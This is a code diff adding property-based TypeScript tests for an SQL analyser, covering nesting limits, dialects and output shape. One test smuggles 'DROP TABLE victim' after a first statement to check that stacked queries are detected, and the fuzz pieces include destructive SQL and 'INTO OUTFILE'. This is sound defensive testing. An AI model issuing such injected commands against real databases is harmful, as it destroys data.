+        expect(f.error).toMatch(/^statement too deeply nested \(or too long an operator chain\) to analyse safely: estimated depth \d+, limit 2000$/);
+      }
+      expect(sqlFacet('SELECT a FROM t WHERE b = 1', { dialect: 'postgresql' }).tables).toEqual(['t']);
+    });
+
+    it('accepts long but flat PostgreSQL input: the depth estimate does not count list items or strings', () => {
+      const inList = 'SELECT * FROM t WHERE id IN (' + Array.from({ length: 5000 }, (_, i) => i).join(', ') + ')';
+      const values = 'INSERT INTO t VALUES ' + Array.from({ length: 1500 }, (_, i) => `(${i}, '+-*/<>=')`).join(', ');
+      const ors = 'SELECT * FROM t WHERE ' + Array.from({ length: 1500 }, (_, i) => `id = ${i}`).join(' OR ');
+      for (const sql of [inList, values, ors]) expect(sqlFacet(sql, { dialect: 'postgresql' }).error).toBe('');
+    });
+
+    it('reads a long UNION chain (a deep tree) without recursion', () => {
+      const sql = Array.from({ length: 1500 }, (_, i) => `SELECT a FROM t${i % 3} WHERE x`).join(' UNION ');
+      const f = sqlFacet(sql, { dialect: 'postgresql' });
+      expect([f.parsed, f.tables, f.statements[0]?.hasWhere]).toEqual([true, ['t0', 't1', 't2'], true]);
+    });
+  });
+
+  it('EMPTY_SQL_FACTS has every field, not parsed, no error, and is frozen', () => {
+    expect(EMPTY_SQL_FACTS).toEqual({ parsed: false, error: '', dialect: '', statements: [], verbs: [], tables: [], functions: [] });
+    expect(Object.isFrozen(EMPTY_SQL_FACTS)).toBe(true);
+    expect(Object.isFrozen(EMPTY_SQL_FACTS.verbs)).toBe(true);
+  });
+
+  it('SQL_DIALECTS lists exactly the supported dialects', () => {
+    expect(SQL_DIALECTS).toEqual(['postgresql', 'mysql', 'mariadb', 'sqlite']);
+  });
+
+  describe('properties', () => {
+    /** Every documented field present, with its type; unions consistent with the statements. */
+    function wellFormed(f: SqlFacts, dialect: string): void {
+      expect(Object.keys(f).sort()).toEqual(['dialect', 'error', 'functions', 'parsed', 'statements', 'tables', 'verbs']);
+      expect(typeof f.parsed).toBe('boolean');
+      expect(typeof f.error).toBe('string');
+      expect(f.dialect).toBe(dialect);
+      for (const list of [f.verbs, f.tables, f.functions]) {
+        expect(Array.isArray(list)).toBe(true);
+        for (const x of list) expect(typeof x).toBe('string');
+        expect(new Set(list).size).toBe(list.length);
+      }
+      for (const s of f.statements) {
+        expect(Object.keys(s).sort()).toEqual(['file', 'functions', 'hasWhere', 'nested', 'object', 'program', 'tables', 'verb']);
+        expect(s.verb).toMatch(/^[A-Z][A-Z0-9_]*$/);
+        expect([typeof s.hasWhere, typeof s.program, typeof s.nested, typeof s.object, typeof s.file]).toEqual(['boolean', 'boolean', 'boolean', 'string', 'string']);
+        for (const n of [...s.tables, ...s.functions]) expect(n).toBe(n.toLowerCase());
+      }
+      if (f.parsed) {
+        expect(f.error).toBe('');
+        expect(f.statements.length).toBeGreaterThan(0);
+        expect(f.verbs).toEqual([...new Set(f.statements.map((s) => s.verb))]);
+        expect(f.tables).toEqual([...new Set(f.statements.flatMap((s) => s.tables))]);
+      } else {
+        expect(f.error).not.toBe('');
+        expect([f.statements, f.verbs, f.tables, f.functions]).toEqual([[], [], [], []]);
+      }
+    }
+
+    // Pieces that exercise every lexer path: quotes, escapes, comments, executable comments, separators.
+    const PIECES = [
+      'SELECT', 'DROP TABLE x', 'DELETE FROM t', 'WITH d AS (', ')', '(', ' ', '\n', ';', ',', '1', 'a.b', "'", '"', '`', '[', ']',
+      '\\', '/*', '*/', '/*!', '/*M!', '--', '-- ', '#', '$$', "E'", 'PRAGMA x=1', 'EXPLAIN ', 'PREPARE s FROM ', 'DO ', 'INTO OUTFILE ',
+      'REVOKE ALL ON a FROM b', 'CREATE TRIGGER tr AFTER INSERT ON t BEGIN ', 'END', '\u00a0', '\u200b', 'é', 'Ｄ', '\uD800',
+    ];
+    const sqlish = fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map((a) => a.join(''));
+    const dialect = fc.constantFrom(...SQL_DIALECTS);
+
+    it('never throws and always returns well-formed facts for SQL-like strings', () => {
+      fc.assert(
+        fc.property(sqlish, dialect, (sql, d) => {
+          wellFormed(sqlFacet(sql, { dialect: d }), d);
+        }),
+        { numRuns: 1000 },
+      );
+    });
+
+    it('never throws and always returns well-formed facts for arbitrary strings', () => {
+      fc.assert(
+        fc.property(fc.string({ unit: 'binary', maxLength: 200 }), dialect, (sql, d) => {
+          wellFormed(sqlFacet(sql, { dialect: d }), d);
+        }),
+        { numRuns: 400 },
+      );
+    });
+
+    it('never throws on arbitrary values of any type', () => {
+      fc.assert(
+        fc.property(fc.anything(), dialect, (value, d) => {
+          const f = sqlFacet(value, { dialect: d });
+          wellFormed(f, d);
+          if (typeof value !== 'string') expect(f.parsed).toBe(false);
+        }),
+        { numRuns: 500 },
+      );
+    });
+
+    it('is deterministic: the same input gives the same facts', () => {
+      fc.assert(
+        fc.property(sqlish, dialect, (sql, d) => {
+          expect(sqlFacet(sql, { dialect: d })).toEqual(sqlFacet(sql, { dialect: d }));
+        }),
+        { numRuns: 300 },
+      );
+    });
+
+    it('a second statement after a complete first one is always seen', () => {
+      const first = fc.constantFrom('SELECT 1', "SELECT 'a''b'", 'SELECT * FROM t WHERE a = 1', 'SELECT 1 /* c */', 'UPDATE t SET a = 2');
+      const sep = fc.constantFrom(';', '; ', ';\n', ' ;', ';/* x */', ';-- x\n');
+      fc.assert(
+        fc.property(first, sep, dialect, (a, s, d) => {
+          const f = sqlFacet(`${a}${s}DROP TABLE victim`, { dialect: d });
+          expect(f.verbs).toContain('DROP');
+          expect(f.tables).toContain('victim');
+        }),
+      );
+    });
+  });
+});
